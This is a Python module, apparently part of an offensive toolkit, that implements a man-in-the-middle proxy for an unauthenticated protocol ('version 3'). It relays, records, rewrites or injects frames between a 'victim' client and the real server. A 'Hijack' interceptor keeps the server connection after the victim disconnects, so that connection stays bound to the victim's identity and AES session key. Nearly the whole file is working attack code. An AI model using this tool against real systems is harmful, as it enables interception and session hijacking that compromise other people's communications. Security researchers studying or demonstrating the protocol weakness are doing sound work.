"""A man in the middle: listen on 127.0.0.1, forward to the real server, rewrite frames.

Nothing in version 3 authenticates the server, so a client that connects to us cannot
tell us from it. ``MitmProxy`` accepts clients, opens a connection to the target for
each, cuts both byte streams into frames and hands every frame to an ``Interceptor``,
whose default forwards it unchanged (and so makes a passive recorder). An interceptor
may rewrite, drop or inject frames, and may ``capture`` the server's responses to talk
to the server itself, also after the client has gone (``hold``): that connection is
still bound to the victim's identity and AES key.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import time
from collections.abc import Awaitable, Callable
from typing import Any

from .common import DEFAULT_TIMEOUT, AttackError, ConnectionClosed, Out, address
from .framing import Frame, Framer
from .recording import Recorder, SessionView, analyse


class MitmConnection:
    """One victim connection and our connection to the server on its behalf."""

    def __init__(
        self,
        proxy: MitmProxy,
        number: int,
        client: tuple[asyncio.StreamReader, asyncio.StreamWriter],
        server: tuple[asyncio.StreamReader, asyncio.StreamWriter],
    ) -> None:
        self.proxy = proxy
        self.number = number
        self.client_reader, self.client_writer = client
        self.server_reader, self.server_writer = server
        self.capture = False  # True: server frames go to receive(), not to the client
        self._captured: asyncio.Queue[Frame | None] = asyncio.Queue()
        self.scratch: dict[str, Any] = {}  # per-connection state of the interceptor

    # -- the Link protocol, towards the server ---------------------------------------

    async def send(self, *frames: bytes) -> None:
        await self.to_server(*frames)

    async def receive(self, timeout: float = DEFAULT_TIMEOUT) -> Frame:
        if not self.capture:
            raise RuntimeError("set capture before reading the server's answers")
        try:
            frame = await asyncio.wait_for(self._captured.get(), timeout)
        except TimeoutError:
            raise AttackError(f"no answer from the server in {timeout:g} s") from None
        if frame is None:
            self._captured.put_nowait(None)  # stays closed for every later reader
            raise ConnectionClosed("the server closed the connection")
        return frame

    # -- moving bytes ------------------------------------------------------------------

    async def to_server(self, *frames: bytes) -> None:
        await _write(self.server_writer, frames)

    async def to_client(self, *frames: bytes) -> None:
        await _write(self.client_writer, frames)

    def close_client(self) -> None:
        with contextlib.suppress(ConnectionError, OSError, RuntimeError):
            self.client_writer.close()

    def close_server(self) -> None:
        with contextlib.suppress(ConnectionError, OSError, RuntimeError):
            self.server_writer.close()


def conn_close(writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(ConnectionError, OSError, RuntimeError):
        writer.close()


async def _write(writer: asyncio.StreamWriter, frames: tuple[bytes, ...]) -> None:
    if writer.is_closing():
        return
    try:
        writer.writelines(frames)
        await writer.drain()
    except (ConnectionError, OSError):
        pass  # that side is gone; the pump reading it notices


class Interceptor:
    """Decides what happens to each frame. The default is a transparent relay."""

    proxy: MitmProxy

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        await conn.to_server(frame.raw)

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        await conn.to_client(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()

    async def server_closed(self, conn: MitmConnection) -> None:
        conn.close_client()


class MitmProxy:
    def __init__(
        self,
        target: str,
        interceptor: Interceptor,
        out: Out,
        recorder: Recorder | None = None,
    ) -> None:
        self.target = target
        self.interceptor = interceptor
        interceptor.proxy = self
        self.out = out
        self.recorder = recorder or Recorder(None)
        self.done: asyncio.Future[bool] = asyncio.get_running_loop().create_future()
        self._numbers = itertools.count(1)
        self._server: asyncio.Server | None = None
        self._tasks: set[asyncio.Task[None]] = set()

    def finish(self, success: bool) -> None:
        if not self.done.done():
            self.done.set_result(success)

    def fail(self, error: BaseException) -> None:
        if not self.done.done():
            self.done.set_exception(error)

    async def start(self, listen: str) -> int:
        host, port = address(listen)
        self._server = await asyncio.start_server(self._accept, host, port)
        bound = int(self._server.sockets[0].getsockname()[1])
        self.out.listening(bound, target=self.target)
        return bound

    async def run(self, listen: str, timeout: float) -> bool:
        """Serve until the interceptor calls ``finish`` (or ``timeout`` seconds pass)."""
        await self.start(listen)
        try:
            return await asyncio.wait_for(asyncio.shield(self.done), timeout)
        except TimeoutError:
            raise AttackError(f"nothing conclusive happened in {timeout:g} s") from None
        finally:
            await self.stop()

    async def stop(self) -> None:
        if self._server is not None:
            self._server.close()
        tasks = list(self._tasks)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        self.recorder.close()

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        try:
            host, port = address(self.target)
            try:
                upstream = await asyncio.open_connection(host, port)
            except OSError as exc:
                self.out.step(f"cannot reach the server: {exc}")
                writer.close()
                return
            number = next(self._numbers)
            conn = MitmConnection(self, number, (reader, writer), upstream)
            peer = writer.get_extra_info("peername")
            self.recorder.opened(number, f"{peer[0]}:{peer[1]}" if peer else "?")
            await asyncio.gather(self._client_pump(conn), self._server_pump(conn))
        except asyncio.CancelledError:
            conn_close(writer)  # stopped by stop(): end quietly
        finally:
            self._tasks.discard(task)

    async def _client_pump(self, conn: MitmConnection) -> None:
        framer = Framer(requests=True)
        try:
            while data := await conn.client_reader.read(65536):
                self.recorder.data(conn.number, "c2s", data)
                for frame in framer.feed(data):
                    await self.interceptor.client_frame(conn, frame)
        except (ConnectionError, OSError):
            pass
        except Exception as exc:  # an interceptor's failure ends the attack
            self.fail(exc)
        self.recorder.closed(conn.number, "client")
        try:
            await self.interceptor.client_closed(conn)
        except Exception as exc:
            self.fail(exc)

    async def _server_pump(self, conn: MitmConnection) -> None:
        framer = Framer(requests=False)
        try:
            while data := await conn.server_reader.read(65536):
                self.recorder.data(conn.number, "s2c", data)
                for frame in framer.feed(data):
                    if conn.capture:
                        conn._captured.put_nowait(frame)
                    else:
                        await self.interceptor.server_frame(conn, frame)
        except (ConnectionError, OSError):
            pass
        except Exception as exc:
            self.fail(exc)
        conn._captured.put_nowait(None)
        self.recorder.closed(conn.number, "server")
        try:
            await self.interceptor.server_closed(conn)
        except Exception as exc:
            self.fail(exc)


class Hijack(Interceptor):
    """Relay the victim unchanged, then keep its server connection when it leaves.

    The server still holds that connection bound to the victim's client id and the
    AES key of the victim's session; ``after`` gets it (``conn`` is a ``Link`` that
    reaches the server) with everything the victim's session showed, and its verdict
    ends the attack.
    """

    def __init__(self, after: Callable[[MitmConnection, SessionView], Awaitable[bool]]) -> None:
        self.after = after
        self._start = time.monotonic()

    def _seen(self, conn: MitmConnection, frame: Frame) -> None:
        view = conn.scratch.setdefault("view", SessionView(conn.number))
        view.events.append((time.monotonic() - self._start, frame))

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        self._seen(conn, frame)
        await conn.to_server(frame.raw)

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        self._seen(conn, frame)
        await conn.to_client(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.capture = True  # from now on the server's answers are ours
        view = analyse(conn.scratch.get("view") or SessionView(conn.number))
        try:
            self.proxy.finish(await self.after(conn, view))
        except Exception as exc:
            self.proxy.fail(exc)
        finally:
            conn.close_server()
